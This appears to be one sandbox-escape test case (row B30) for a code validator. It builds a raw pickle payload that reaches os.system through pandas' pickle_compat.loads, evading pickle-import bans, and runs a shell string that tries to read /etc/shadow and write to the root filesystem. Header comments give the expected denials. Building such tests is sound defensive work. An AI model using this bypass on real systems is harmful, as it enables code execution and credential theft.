# row: B30
# attack: Deserialisation inside an allowed library: pandas' own unpickler,
#   `pandas.compat.pickle_compat.loads()`, of a REDUCE to os.system (no pickle import, no read_pickle).
# v-on-finding: rule=attribute.denied source=ast text='pickle_compat'
# v-on-finding: rule=import.denied source=ast text=unpickles
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B30_pandas_pickle_compat_loads
# limits: wall_time_s=10
import pandas as pd

SHELL = (
    "echo 'system() reached'; id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B30_pandas_pickle_compat_loads"
)


payload = b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR."
try:
    print("pandas.compat.pickle_compat.loads() of a REDUCE to os.system", flush=True)
    status = pd.compat.pickle_compat.loads(payload)
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print(f"pickle_compat.loads returned the shell's exit status {status}")
